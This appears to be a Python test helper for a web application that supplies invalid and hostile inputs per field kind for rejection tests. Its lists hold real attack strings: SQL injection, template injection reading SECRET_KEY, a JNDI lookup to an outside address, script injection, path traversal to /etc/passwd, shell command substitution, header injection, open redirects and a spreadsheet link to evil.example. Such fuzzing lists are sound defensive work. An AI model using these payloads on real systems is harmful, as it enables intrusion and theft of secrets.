"""What no page takes, by the kind of field that it is typed into.

Only what must be refused: a long word in a search box is no attack, and a
note that holds a script is a note (it is shown as text; other tests hold that).
"""

import random

CONTROLS = ("a\x00b", "\x1b[2J\x1b[31m", "\x07\x08\x7f", "a\x0bb\x0c")
#: Longer than any text that a form takes.
LONGER_THAN_ANY = 6_000
#: In a note, a line break is no attack.
HIDDEN = ("a\x00b", "\x00", "\x1b[2J", "a\x07b", "\x08\x7f", "a\ufffdb")
#: Bytes that are not UTF-8, and halves of it; written percent-encoded.
NOT_UTF8 = ("%ff%fe", "%c0%af", "%ed%a0%80", "%f0%28%8c%28", "%80", "%e2%82")
HUGE = ("9" * 19, "9" * 40, "9" * 5000, "-" + "9" * 30, "1e999", "-1e308", "NaN", "Infinity", "-Infinity")
NO_NUMBERS = (
    "",
    " ",
    "0x1f",
    "1_000",
    "1,5",
    "²",
    "½",
    "--1",
    "1;2",
    "one",
    "true",
    "[]",
    "null",
    "1e3",
    "3.7",
)
FAR_DATES = ("9999-12-31", "0001-01-01", "9999-12-31T23:59:59Z", "10000-01-01", "0000-00-00", "-0044-03-15")
NO_DATES = (
    "2026-02-30",
    "2026-13-01",
    "tomorrow",
    "1e9",
    "20260301",
    "2026-W10-1",
    "01/03/2026",
    "٢٠٢٦-٠٣-٠١",
)
#: Never in a page as it is: that would run.
SCRIPT = "<script>alert(1)</script>"
INJECTIONS = (
    "' OR '1'='1",
    "1; DROP TABLE accounts_user; --",
    "{{ settings.SECRET_KEY }}{% debug %}",
    "${jndi:ldap://192.0.2.1/a}",
    SCRIPT,
    f"'\">{SCRIPT}",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%0d%0aSet-Cookie:%20stolen=1",
    "|id;`id`$(id)",
    '=HYPERLINK("http://evil.example")',
    "\u202e\u2066evil\u2069",
    "\ufeff\u200b\u00ad",
    "🏃" * 300,
)
HEADER_INJECTIONS = (
    "a\r\nBcc: victim@example.org",
    "a\nSubject: changed",
    "a\r\n\r\n<html>",
    "a\u2028Bcc: victim@example.org",
    "a@example.org\r\nCc: b@example.org",
    "a@example.org\nTo: b@example.org",
)
#: Some hidden fields are JSON that a script of ours writes.
NO_JSON = (
    "[" * 100_000,
    '{"a":' * 50_000,
    f'{{"id": {"9" * 5000}}}',
    '{"id": "a", "rawId": [1]}',
    "[[]]",
    '"a"',
)
NO_ADDRESSES = (
    "a@b",
    "@example.org",
    "a b@example.org",
    "a@exa mple.org",
    "a@example.org, b@example.org",
    "<a@example.org>",
    f"{'a' * 300}@example.org",
    f"a@{'b.' * 200}org",
    "a@" + "\ufdfa" * 20 + ".org",
    "a@example.org\x00",
    *HEADER_INJECTIONS,
)
NO_IDS = (
    "-1",
    "0",
    "9" * 19,
    "9" * 40,
    "00000000-0000-0000-0000-000000000000",
    "1.0",
    "null",
    "undefined",
    "'",
    "[]",
)
OPEN_REDIRECTS = (
    "//evil.example",
    "/\\evil.example",
    "javascript:alert(1)",
    "http:///evil.example",
    "https://evil.example@x",
)
LANGUAGES = ("x" * 500, "-".join(["de"] * 300), ",".join(["fr-FR"] * 500), "../../etc", "%00")
METHODS = ("PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "CONNECT", "M-SEARCH", "get", "GET" * 20)
HOSTS = (
    "evil.example",
    "rehab.example.evil.example",
    "rehab.example:99999",
    "rehab.example@evil.example",
    "",
    "[::1",
)
#: Names that pages may read from a query.
QUERIES = (
    "q", "next", "page", "p", "o", "all", "e", "range", "show", "date", "key", "sort", "_connector",
    "id__in", "_popup", "_to_field", "_changelist_filters", "format", "callback", "lang", "step",
    "code", "token",
)  # fmt: skip
#: Fields that no role may set, and names that a careless query would take as its own.
FOREIGN = (
    "role", "is_staff", "is_superuser", "stage", "status", "runner", "clinician", "public_id", "id",
    "pk", "password", "closes_at", "decided_by", "_state", "__class__", "user", "email", "by", "now",
)  # fmt: skip


def too_long(dice: random.Random) -> str:
    return dice.choice(("a", "é", "走", "a ", f"'\">{SCRIPT}")) * dice.choice((LONGER_THAN_ANY, 20_000))


def for_kind(kind: str, dice: random.Random) -> str:
    """Return a value that a field of this kind refuses."""
    pools = {
        "number": (HUGE, NO_NUMBERS[2:], CONTROLS, INJECTIONS, ("-2147483649", "2147483648")),
        "date": (FAR_DATES, NO_DATES, CONTROLS, HUGE, INJECTIONS),
        "time": (NO_DATES, HUGE, CONTROLS, ("25:00", "12:60", "-1:00", "99:99:99")),
        "choice": (HUGE, NO_IDS, CONTROLS, INJECTIONS, HEADER_INJECTIONS, NO_JSON, (too_long(dice),)),
        "email": (NO_ADDRESSES,),
        "text": (HIDDEN, (too_long(dice),)),
        "password": (("short", "\x00" * 20, "password", "1" * 12), (too_long(dice),)),
    }
    return dice.choice(dice.choice(pools.get(kind, pools["choice"])))


def for_path(dice: random.Random) -> str:
    """Return a part of an address, percent-encoded, that names nothing."""
    pool = dice.choice((NO_IDS, HUGE, FAR_DATES, NO_DATES, INJECTIONS, CONTROLS, HEADER_INJECTIONS, NOT_UTF8))
    return dice.choice(pool)
